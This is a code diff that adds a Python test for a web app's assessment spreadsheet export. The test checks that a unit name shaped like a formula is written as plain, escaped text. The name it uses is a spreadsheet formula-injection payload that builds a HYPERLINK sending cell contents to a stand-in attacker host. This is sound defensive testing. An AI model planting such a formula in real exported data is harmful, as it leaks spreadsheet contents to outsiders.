@@ -120,3 +120,18 @@ def test_the_pages_and_the_xlsx_show_each_point(world: World) -> None:
     leader.login(username="leader", password=PASSWORD)
     assert leader.get(f"/assessment/{run.pk}/").status_code == 200
     assert leader.post(f"/plans/{world.plan.code}/assessment/compute/").status_code == 403
+
+
+def test_it_writes_a_formula_like_unit_name_as_text(world: World) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    world.unit_a.name = hostile
+    world.unit_a.save(update_fields=["name"])
+    _events(world)
+    run = assessment.assessment_compute(plan=world.plan, user=world.office)
+    office = Client()
+    office.login(username="office", password=PASSWORD)
+    book = load_workbook(io.BytesIO(office.get(f"/assessment/{run.pk}/xlsx/").content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    names = {cell.value for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value}
+    assert names == {"'" + hostile}
